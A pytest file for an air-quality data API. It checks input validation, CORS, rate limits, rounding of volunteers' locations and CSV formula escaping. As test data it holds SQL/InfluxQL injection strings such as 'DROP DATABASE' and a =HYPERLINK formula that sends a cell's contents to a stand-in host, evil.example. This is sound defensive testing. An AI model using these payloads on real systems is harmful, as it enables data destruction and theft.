"""Hostile input gets a clear 4xx and never reaches InfluxDB as query text; CORS; rate limit;
volunteers' positions."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from civicair.schema.storage import meta_to_line
from tests.api.conftest import T0, make_client, pm_line, write

HOSTILE = [
    "x' OR '1'='1",
    "a;DROP DATABASE airquality",
    "a'; DROP MEASUREMENT pm; --",
    "/.*/",
    "a\nb",
    "a\\",
    '"pm25"',
    "pm25) FROM pm; SELECT (",
    "\x00",
    "é",
    "A" * 5000,
]
QUERY_PARAMS = ["stations", "params", "aggregates", "tz", "from", "to", "bbox", "near", "cursor", "format",
                "interval", "limit", "radius", "include_flagged"]


@pytest.fixture
def spied(client):
    """The client, and every InfluxQL statement the app sends."""
    sent: list[str] = []
    influx = client.app.state.influx
    original = influx.query

    async def query(q, **kwargs):
        sent.append(q)
        return await original(q, **kwargs)

    influx.query = query
    return client, sent


@pytest.mark.parametrize("payload", HOSTILE, ids=[repr(p)[:20] for p in HOSTILE])
def test_hostile_path_ids_are_refused_before_any_query(spied, payload):
    client, sent = spied
    for template in ("/v1/stations/{}", "/v1/stations/{}/measurements"):
        r = client.get(template.format(quote(payload, safe="")))
        assert r.status_code in (404, 422), (template, r.status_code)
        assert "detail" in r.json()
    assert sent == []


@pytest.mark.parametrize("name", QUERY_PARAMS)
def test_hostile_query_values_are_clear_422s_and_never_query_text(spied, name):
    client, sent = spied
    for payload in HOSTILE:
        for url in ("/v1/measurements?stations=lab-1", "/v1/stations/lab-1/measurements", "/v1/latest",
                    "/v1/aqi"):
            r = client.get(url, params={name: payload})
            assert r.status_code == 422, (url, name, payload, r.text)
            body = r.json()
            assert body["detail"] and body["code"] == "invalid_parameter"
            assert len(payload) < 3 or payload not in r.text  # not reflected
        assert not any(payload in q for q in sent)


@pytest.mark.parametrize(("params", "code"), [
    ({"from": "2000-01-01", "to": "2099-12-31"}, "range_too_long"),
    ({"from": "2026-01-02", "to": "2026-01-01"}, "invalid_range"),
    ({"from": "2026-01-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"}, "invalid_range"),
    ({"from": "0001-01-01"}, "invalid_time"),
    ({"to": "9999-12-31"}, "invalid_time"),
    ({"foo": "bar"}, "invalid_parameter"),
    ({"form": "2026-01-01"}, "invalid_parameter"),
    ({"params": "pm25,password"}, "invalid_parameter"),
    ({"limit": "-1"}, "invalid_parameter"),
    ({"limit": "99999999999999999999"}, "invalid_parameter"),
    ({"bbox": "0,0,200,10"}, "invalid_area"),
    ({"near": "95,0"}, "invalid_area"),
    ({"radius": "10"}, "invalid_area"),
])
def test_huge_reversed_and_unknown_are_refused_without_a_query(spied, params, code):
    client, sent = spied
    r = client.get("/v1/measurements", params={"stations": "lab-1", **params})
    assert r.status_code == 422 and r.json()["code"] == code, r.text
    assert sent == []


@pytest.mark.parametrize("params", [
    {"from": "0001-01-01T00:00:00+01:00"},
    {"to": "9999-12-31T23:59:00-05:00"},
    {"from": "0001-01-01", "tz": "Asia/Tokyo"},
    {"cursor": "0001-01-01T00:00:00+01:00"},
], ids=["year 1 with an offset", "year 9999 with an offset", "year 1 in Tokyo", "cursor in year 1"])
def test_times_beyond_what_a_datetime_holds_in_utc_are_422_on_every_endpoint(spied, params):
    """Found in review: these raised OverflowError (a bare 500) instead of a clear 422."""
    client, sent = spied
    for url in ("/v1/measurements?stations=lab-1", "/v1/stations/lab-1/measurements", "/v1/stations/lab-1",
                "/v1/aqi"):
        if "cursor" in params and "measurements" not in url:
            continue
        r = client.get(url, params=params)
        assert r.status_code == 422, (url, r.text)
        assert r.json()["code"] in ("invalid_time", "invalid_parameter"), (url, r.text)
    assert sent == []


def test_only_get(client):
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        r = client.request(method, "/v1/stations")
        assert r.status_code == 405 and r.headers["allow"] == "GET"


def test_cors_is_open_for_get_only(client):
    r = client.get("/v1/stations", headers={"Origin": "https://maps.example.org"})
    assert r.headers["access-control-allow-origin"] == "*"
    assert "etag" in r.headers["access-control-expose-headers"].lower()
    ok = client.options("/v1/stations", headers={"Origin": "https://maps.example.org",
                                                  "Access-Control-Request-Method": "GET",
                                                  "Access-Control-Request-Headers": "if-none-match"})
    assert ok.status_code == 200 and ok.headers["access-control-allow-methods"] == "GET"
    refused = client.options("/v1/stations", headers={"Origin": "https://maps.example.org",
                                                       "Access-Control-Request-Method": "DELETE"})
    assert refused.status_code == 400


def test_rate_limit_headers_and_429(influxdb):
    with make_client(influxdb, rate_limit_enabled=True, rate_limit_requests=3,
                     rate_limit_window_s=3600) as client:
        remaining = []
        for _ in range(3):
            r = client.get("/v1/stations")
            assert r.status_code == 200
            assert r.headers["x-ratelimit-limit"] == "3" and 0 < int(r.headers["x-ratelimit-reset"]) <= 3600
            remaining.append(r.headers["x-ratelimit-remaining"])
        assert remaining == ["2", "1", "0"]
        r = client.get("/v1/latest")
        assert r.status_code == 429 and r.json()["code"] == "rate_limited"
        assert r.headers["retry-after"] == r.headers["x-ratelimit-reset"]
        assert r.headers["x-ratelimit-remaining"] == "0"
        assert r.headers["cache-control"] == "no-store"
        assert client.get("/v1/health").status_code == 200  # exempt: load balancers poll it
        # X-Forwarded-For is ignored unless the deployment trusts its proxy
        assert client.get("/v1/stations", headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 429


def test_rate_limit_per_forwarded_client_behind_a_trusted_proxy(influxdb):
    with make_client(influxdb, rate_limit_enabled=True, rate_limit_requests=1,
                     rate_limit_trust_forwarded=True) as c:
        assert c.get("/v1/stations", headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 200
        assert c.get("/v1/stations", headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 429
        assert c.get("/v1/stations", headers={"X-Forwarded-For": "198.51.100.7, 10.0.0.1"}).status_code == 200


def test_rate_limit_is_off_by_default(client):
    r = client.get("/v1/stations")
    assert "x-ratelimit-limit" not in r.headers


def test_exact_positions_appear_nowhere_unless_opted_in(client, influx):
    import time

    now = int(time.time()) // 60 * 60
    write(influx, [pm_line("home-1", now - 60, pm25=5), pm_line("home-1", T0, pm25=5)])
    # Written exact (as a third-party writer might), without the opt-in.
    influx.write(b'station,station=home-1 name="Home",lat=52.0907123,lon=5.1214567,exact_location=false '
                 + str(T0).encode() + b"\n")
    influx.write(meta_to_line("lab-9", {"name": "Lab", "lat": 51.0, "lon": 4.0}, T0))
    for url in ("/v1/stations", "/v1/stations?format=geojson", "/v1/latest", "/v1/latest?format=csv",
                "/v1/aqi", "/v1/stations/home-1"):
        text = client.get(url).text
        assert "52.0907" not in text and "5.1214" not in text, url
        assert "52.091" in text, url


def test_a_station_name_that_looks_like_a_formula_is_plain_text_in_csv(client, influx):
    """Found in review: a volunteer controls the name (the meta message); in a spreadsheet
    '=HYPERLINK(…)' would run. Such cells get a leading ' (OWASP's advice)."""
    import csv
    import io
    import time

    now = int(time.time())
    hostile = '=HYPERLINK("http://evil.example/"&A1,"Click")'
    influx.write(meta_to_line("lab-5", {"name": hostile, "lat": 51.0, "lon": 4.0}, now))
    write(influx, [pm_line("lab-5", now - 60, pm25=-1.5, pm25_atm=3.0)])
    for url in ("/v1/latest?format=csv", "/v1/aqi?format=csv&stations=lab-5"):
        rows = list(csv.DictReader(io.StringIO(client.get(url).text)))
        (row,) = [r for r in rows if r["station"] == "lab-5"]
        assert row["name"] == "'" + hostile, url
    latest = list(csv.DictReader(io.StringIO(client.get("/v1/latest?format=csv").text)))
    (row,) = [r for r in latest if r["station"] == "lab-5"]
    assert row[next(k for k in row if k.startswith("pm25 "))] == "-1.5"  # numbers stay numbers
    assert client.get("/v1/latest").json()["results"][0]["name"] == hostile  # JSON unchanged
